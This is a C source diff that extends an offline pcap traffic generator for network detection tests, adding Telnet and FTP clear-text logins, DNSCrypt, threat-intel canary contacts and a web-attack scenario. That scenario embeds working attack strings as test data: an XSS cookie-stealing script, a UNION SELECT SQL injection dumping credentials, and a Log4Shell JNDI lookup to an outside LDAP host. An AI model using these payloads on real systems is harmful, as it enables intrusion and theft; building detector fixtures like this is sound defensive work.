@@ -3,8 +3,8 @@
  * Writes classic pcap files (Ethernet link type, microsecond timestamps) holding
  * protocol-correct traffic for each behaviour detector and for the demo: TCP
  * sessions with real handshakes and checksums, TLS ClientHello with SNI, DNS,
- * NTP, SNMP, FIX 4.2, SSH, SMB2, DCE/RPC, RDP, HTTP, rsync. Nothing touches the
- * network. A fixed seed gives byte-identical output.
+ * NTP, SNMP, FIX 4.2, SSH, SMB2, DCE/RPC, RDP, HTTP, rsync, Telnet, FTP, DNSCrypt.
+ * Nothing touches the network. A fixed seed gives byte-identical output.
  *
  * How it works: every builder appends finished frames (with their timestamp) to
  * an in-memory store; activities run on their own clock (g->now), so several
@@ -1990,9 +1990,252 @@ static void act_dns_direct(struct gen_ctx *g, uint32_t cip, struct gen_ep s, con
     gen_tick(g, 200);
 }
 
+/* ---- Clear-text logins, web attacks, threat-intel hits (rule pack) ---- */
+
+/* One message in one segment, the peer ACKs half an RTT later. */
+static void gen_tcp_say(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir, const char *s)
+{
+    gen_tcp_send(g, t, dir, (const uint8_t *)s, strlen(s));
+}
+
+/* A line typed on a Telnet client in character mode: one segment per key, the
+ * server echoes it (echo) or just ACKs it (password), then the client ACKs. */
+static void telnet_type(struct gen_ctx *g, struct gen_tcp *t, const char *line, bool echo)
+{
+    const char *k;
+
+    for (k = line; *k != '\0'; k++) {
+        gen_tick(g, gen_range(g, 90000, 250000));   /* typing speed */
+        gen_tcp_pkt(g, t, GEN_C2S, TH_ACK | TH_PSH, (const uint8_t *)k, 1);
+        gen_tick(g, t->rtt / 2);
+        if (echo) {
+            const char *e = *k == '\r' ? "\r\n" : k;
+
+            gen_tcp_pkt(g, t, GEN_S2C, TH_ACK | TH_PSH, (const uint8_t *)e, *k == '\r' ? 2 : 1);
+            gen_tick(g, t->rtt / 2);
+        }
+        gen_tcp_pkt(g, t, echo ? GEN_C2S : GEN_S2C, TH_ACK, NULL, 0);
+    }
+}
+
+/* Telnet (RFC 854) login as a Linux telnetd and netkit client do it: option
+ * negotiation (TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON, SGA, ECHO, NAWS), the login
+ * and password prompts, the user typing both in character mode, one command. */
+static void act_telnet_login(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *user,
+                             const char *pass)
+{
+    static const uint8_t s_do[] = {0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20, 0xff, 0xfd, 0x23,
+                                   0xff, 0xfd, 0x27};
+    static const uint8_t c_will[] = {0xff, 0xfb, 0x18, 0xff, 0xfb, 0x20, 0xff, 0xfb, 0x23,
+                                     0xff, 0xfb, 0x27};
+    static const uint8_t s_sb[] = {0xff, 0xfa, 0x20, 0x01, 0xff, 0xf0, 0xff, 0xfa, 0x23, 0x01,
+                                   0xff, 0xf0, 0xff, 0xfa, 0x27, 0x01, 0xff, 0xf0, 0xff, 0xfa,
+                                   0x18, 0x01, 0xff, 0xf0};
+    static const uint8_t c_sb[] = {0xff, 0xfa, 0x20, 0x00, '3', '8', '4', '0', '0', ',', '3',
+                                   '8', '4', '0', '0', 0xff, 0xf0, 0xff, 0xfa, 0x27, 0x00,
+                                   0xff, 0xf0, 0xff, 0xfa, 0x18, 0x00, 'X', 'T', 'E', 'R', 'M',
+                                   0xff, 0xf0};
+    static const uint8_t s_opts[] = {0xff, 0xfb, 0x03, 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f,
+                                     0xff, 0xfb, 0x05, 0xff, 0xfd, 0x21};
+    static const uint8_t c_opts[] = {0xff, 0xfd, 0x03, 0xff, 0xfc, 0x01, 0xff, 0xfb, 0x1f,
+                                     0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0,
+                                     0xff, 0xfd, 0x05, 0xff, 0xfc, 0x21};
+    static const uint8_t s_echo[] = {0xff, 0xfb, 0x01};
+    static const uint8_t c_echo[] = {0xff, 0xfd, 0x01};
+    char line[80];
+    struct gen_tcp t;
+
+    gen_tcp_init(g, &t, cip, sip, 23, 2000);
+    gen_tcp_open(g, &t);
+    gen_tick(g, 5000);                  /* telnetd speaks first */
+    gen_tcp_send(g, &t, GEN_S2C, s_do, sizeof(s_do));
+    gen_tcp_send(g, &t, GEN_C2S, c_will, sizeof(c_will));
+    gen_tcp_send(g, &t, GEN_S2C, s_sb, sizeof(s_sb));
+    gen_tcp_send(g, &t, GEN_C2S, c_sb, sizeof(c_sb));
+    gen_tcp_send(g, &t, GEN_S2C, s_opts, sizeof(s_opts));
+    gen_tcp_send(g, &t, GEN_C2S, c_opts, sizeof(c_opts));
+    gen_tcp_send(g, &t, GEN_S2C, s_echo, sizeof(s_echo));
+    gen_tcp_send(g, &t, GEN_C2S, c_echo, sizeof(c_echo));
+    gen_tcp_say(g, &t, GEN_S2C, "\r\nDebian GNU/Linux 11\r\nhsm-console login: ");
+    snprintf(line, sizeof(line), "%s\r", user);
+    telnet_type(g, &t, line, true);
+    gen_tcp_say(g, &t, GEN_S2C, "\r\nPassword: ");
+    snprintf(line, sizeof(line), "%s\r", pass);
+    telnet_type(g, &t, line, false);
+    gen_tick(g, 800000);                /* PAM */
+    gen_tcp_say(g, &t, GEN_S2C, "\r\nLast login: Mon Nov  2 08:12:40 UTC 2026 from 10.20.2.15"
+                " on pts/0\r\nhsmadm@hsm-console:~$ ");
+    telnet_type(g, &t, "exit\r", true);
+    gen_tcp_say(g, &t, GEN_S2C, "\r\nlogout\r\n");
+    gen_tcp_close(g, &t, GEN_S2C);
+}
+
+/* FTP (RFC 959) control session: banner, USER/PASS, SYST, PWD, QUIT. */
+static void act_ftp_login(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *user,
+                          const char *pass)
+{
+    char line[80];
+    struct gen_tcp t;
+
+    gen_tcp_init(g, &t, cip, sip, 21, 1500);
+    gen_tcp_open(g, &t);
+    gen_tick(g, 3000);                  /* the server speaks first */
+    gen_tcp_say(g, &t, GEN_S2C, "220 (vsFTPd 3.0.3)\r\n");
+    gen_tick(g, gen_range(g, 50000, 200000));
+    snprintf(line, sizeof(line), "USER %s\r\n", user);
+    gen_tcp_say(g, &t, GEN_C2S, line);
+    gen_tcp_say(g, &t, GEN_S2C, "331 Please specify the password.\r\n");
+    gen_tick(g, gen_range(g, 50000, 200000));
+    snprintf(line, sizeof(line), "PASS %s\r\n", pass);
+    gen_tcp_say(g, &t, GEN_C2S, line);
+    gen_tick(g, 20000);
+    gen_tcp_say(g, &t, GEN_S2C, "230 Login successful.\r\n");
+    gen_tcp_say(g, &t, GEN_C2S, "SYST\r\n");
+    gen_tcp_say(g, &t, GEN_S2C, "215 UNIX Type: L8\r\n");
+    gen_tcp_say(g, &t, GEN_C2S, "PWD\r\n");
+    gen_tcp_say(g, &t, GEN_S2C, "257 \"/home/batch\" is the current directory\r\n");
+    gen_tick(g, gen_range(g, 500000, 2000000));
+    gen_tcp_say(g, &t, GEN_C2S, "QUIT\r\n");
+    gen_tcp_say(g, &t, GEN_S2C, "221 Goodbye.\r\n");
+    gen_tcp_close(g, &t, GEN_S2C);
+}
+
+/* Telnet into the card zone, FTP into core-banking (both FW-CLEAR-001), and the
+ * same FTP login into a branch file server, which is allowed. */
+static void scn_cleartext(struct gen_ctx *g, uint64_t start)
+{
+    g->now = start;
+    act_telnet_login(g, IP4(10, 20, 2, 15), IP4(10, 50, 1, 10), "hsmadm", "Winter2026!");
+    g->now = start + GEN_MIN;
+    act_ftp_login(g, IP4(10, 20, 3, 30), IP4(10, 10, 1, 30), "batch", "S3tl3m3nt#7");
+    g->now = start + 2 * GEN_MIN;
+    act_ftp_login(g, IP4(10, 20, 3, 31), IP4(10, 20, 1, 200), "scans", "scanner01");
+}
+
+/* One HTTP request with a given Host and path to sip:80, a small HTML answer. */
+static void act_http_req(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *host,
+                         const char *path, const char *ua, unsigned status)
+{
+    uint8_t m1[1024], m2[1024];
+    struct gen_buf req, resp;
+    struct gen_tcp t;
+    char line[768];
+
+    gen_tcp_init(g, &t, cip, sip, 80, 20000);
+    gen_tcp_open(g, &t);
+    gen_buf_init(&req, m1, sizeof(m1));
+    snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
+             "Accept: text/html,*/*;q=0.8\r\nConnection: close\r\n\r\n", path, host, ua);
+    gen_str(&req, line);
+    gen_buf_init(&resp, m2, sizeof(m2));
+    snprintf(line, sizeof(line), "HTTP/1.1 %u %s\r\nServer: nginx\r\nContent-Type: text/html\r\n"
+             "Content-Length: 58\r\nConnection: close\r\n\r\n", status,
+             status == 200 ? "OK" : "Bad Request");
+    gen_str(&resp, line);
+    gen_str(&resp, "<html><body><p>Online banking: please log in.</p></body>\n");
+    gen_tcp_exchange(g, &t, &req, &resp);
+}
+
+#define WEB_UA "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
+#define WEB_DMZ IP4(172, 16, 0, 20)
+
+/* Attacks on the DMZ web server from three external hosts (XSS, SQL injection
+ * by sqlmap, Log4Shell in the Host header and User-Agent) next to an ordinary
+ * page view. (No command injection: Debian's nDPI 4.2 is built without PCRE and
+ * has no RCE check.) */
+static void scn_web_attack(struct gen_ctx *g, uint64_t start)
+{
+    g->now = start;
+    act_http_req(g, IP4(10, 20, 0, 12), WEB_DMZ, "ebanking.bank.example", "/login?lang=en",
+                 WEB_UA, 200);
+    g->now = start + 10 * GEN_SEC;
+    act_http_req(g, IP4(198, 51, 100, 61), WEB_DMZ, "ebanking.bank.example",
+                 "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", WEB_UA, 200);
+    g->now = start + 20 * GEN_SEC;
+    act_http_req(g, IP4(198, 51, 100, 62), WEB_DMZ, "ebanking.bank.example",
+                 "/account?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
+                 "sqlmap/1.7.2#stable (https://sqlmap.org)", 200);
+    g->now = start + 40 * GEN_SEC;
+    act_http_req(g, IP4(203, 0, 113, 64), WEB_DMZ, "${jndi:ldap://203.0.113.64:1389/Basic}",
+                 "/", "${jndi:ldap://203.0.113.64:1389/Basic}", 400);
+}
+
+/* The canary indicators shipped in rules/detections/ti/ (reserved names and
+ * addresses that never occur in real traffic). */
+#define TI_CANARY_NAME "ti-canary.finwatch.example"
+#define TI_CANARY_IP   IP4(192, 0, 2, 166)
+
+/* A branch host resolves and visits a listed domain, a core-banking server
+ * opens TLS to a listed address; another branch host browses normally. */
+static void scn_threat_intel(struct gen_ctx *g, uint64_t start)
+{
+    struct tls_plan bad = {TI_CANARY_NAME, 2, 200, 600, 300, 3000, 30000};
+    struct tls_plan upd = {"updates.vendor.example", 1, 200, 400, 400, 1200, 30000};
+    struct tls_plan ok = {"www.example.com", 2, 300, 900, 800, 6000, 20000};
+
+    g->now = start;
+    act_dns(g, IP4(10, 20, 8, 31), "www.example.com", DNS_A, NULL);
+    act_tls(g, IP4(10, 20, 8, 31), gen_name_ip("www.example.com"), &ok);
+    g->now = start + 10 * GEN_SEC;
+    act_dns(g, IP4(10, 20, 8, 30), TI_CANARY_NAME, DNS_A, NULL);
+    act_tls(g, IP4(10, 20, 8, 30), gen_name_ip(TI_CANARY_NAME), &bad);
+    g->now = start + 20 * GEN_SEC;
+    act_tls(g, IP4(10, 10, 7, 7), TI_CANARY_IP, &upd);
+}
+
+/* DNSCrypt v2 (dnscrypt.info/protocol): the client fetches the resolver's
+ * certificate with a plain DNS TXT query for 2.dnscrypt-cert.<provider>, then
+ * sends encrypted queries (client magic, public key, nonce, box, padded to 256
+ * bytes) answered with the resolver magic "r6fnvWj8", a nonce and a box. All on
+ * the resolver's port, here not 53: DNS framing where egress rules miss it. */
+static void act_dnscrypt(struct gen_ctx *g, uint32_t cip, struct gen_ep s, const char *provider,
+                         unsigned queries)
+{
+    uint8_t mem[512], cert[125];
+    struct gen_buf b, c;
+    struct gen_ep cl = {cip, gen_eport(g)};
+    uint16_t id = (uint16_t)gen_rand(g);
+    char qname[128];
+    unsigned i;
+
+    snprintf(qname, sizeof(qname), "2.dnscrypt-cert.%s", provider);
+    gen_buf_init(&b, mem, sizeof(mem));
+    dns_begin(&b, id, 0x0100, 0, qname, DNS_TXT);
+    gen_udp(g, &cl, &s, b.b, b.len);
+    gen_tick(g, gen_range(g, 15000, 40000));
+    gen_buf_init(&c, cert, sizeof(cert));
+    gen_u8(&c, 124);                    /* one character-string: the certificate */
+    gen_str(&c, "DNSC");
+    gen_u16(&c, 2);                     /* es-version: X25519-XSalsa20Poly1305 */
+    gen_u16(&c, 0);
+    gen_rnd(g, &c, 64);                 /* signature */
+    gen_rnd(g, &c, 32);                 /* resolver public key */
+    gen_str(&c, "Fw1nCl1e");            /* client magic */
+    gen_u32(&c, 1);                     /* serial */
+    gen_u32(&c, (uint32_t)(g->now / GEN_SEC));
+    gen_u32(&c, (uint32_t)(g->now / GEN_SEC + 86400));
+    gen_buf_init(&b, mem, sizeof(mem));
+    dns_begin(&b, id, 0x8180, 1, qname, DNS_TXT);
+    dns_rr(&b, DNS_TXT, 3600, c.b, c.len);
+    gen_udp(g, &s, &cl, b.b, b.len);
+    for (i = 0; i < queries; i++) {
+        gen_tick(g, gen_range(g, 200000, 3000000));
+        gen_buf_init(&b, mem, sizeof(mem));
+        gen_str(&b, "Fw1nCl1e");
+        gen_rnd(g, &b, 32 + 12 + 256 - 52);
+        gen_udp(g, &cl, &s, b.b, b.len);
+        gen_tick(g, gen_range(g, 15000, 40000));
+        gen_buf_init(&b, mem, sizeof(mem));
+        gen_str(&b, "r6fnvWj8");
+        gen_rnd(g, &b, 24 + (size_t)gen_range(g, 60, 160));
+        gen_udp(g, &s, &cl, b.b, b.len);
+    }
+}
+
 /* Small cases for the match rules of rules/detections (tests/rules/pack/):
  * RDP from outside into core-banking, SSH from a branch into swift, direct DNS
- * from the card zone to an external server, DNS on port 5300, and a client
+ * from the card zone to an external server, plain DNS on port 5300 (nDPI 4.2
+ * leaves it Unknown), DNSCrypt on 443/udp (nDPI: DNScrypt), and a client
  * collecting 60 NXDOMAIN answers in two minutes (DGA). */
 static void scn_rule_pack(struct gen_ctx *g, uint64_t start)
 {
@@ -2009,6 +2252,9 @@ static void scn_rule_pack(struct gen_ctx *g, uint64_t start)
     g->now = start + 30 * GEN_SEC;
     act_dns_direct(g, IP4(10, 20, 6, 6), (struct gen_ep){IP4(203, 0, 113, 54), 5300},
                    "odd.example.net", false);
+    g->now = start + 35 * GEN_SEC;
+    act_dnscrypt(g, IP4(10, 20, 6, 8), (struct gen_ep){IP4(203, 0, 113, 55), 443},
+                 "resolver.dnscrypt.example", 2);
     for (i = 0; i < n; i++) {
         g->now = start + 40 * GEN_SEC + i * 2 * GEN_SEC;
         snprintf(name, sizeof(name), "q%08x%04x.example.org", (unsigned)gen_rand(g),
@@ -2067,7 +2313,10 @@ static const struct gen_scenario gen_scenarios[] = {
     {"zone_policy", scn_zone_policy, "branch -> swift and atm -> external sessions"},
     {"fix_anomaly", scn_fix_anomaly, "FIX logon with unknown SenderCompID, bad checksum"},
     {"demo", scn_demo, "benign + scans, brute force, tunnel, policy, beacon (< 2 MB)"},
-    {"rule_pack", scn_rule_pack, "RDP in, SSH branch->swift, card DNS out, DNS on 5300, NXDOMAINs"},
+    {"rule_pack", scn_rule_pack, "RDP in, SSH to swift, card DNS out, DNS on 5300, DNSCrypt, NXDOMAIN"},
+    {"cleartext", scn_cleartext, "Telnet login into card, FTP logins into core-banking and branch"},
+    {"web_attack", scn_web_attack, "XSS, SQL injection, Log4Shell against a DMZ web server"},
+    {"threat_intel", scn_threat_intel, "contacts with the canary TI domain and address; benign"},
     {"manyflows", scn_manyflows, "200k idle classified DNS flows in 50 s (bench: bytes/flow)"},
 };
 
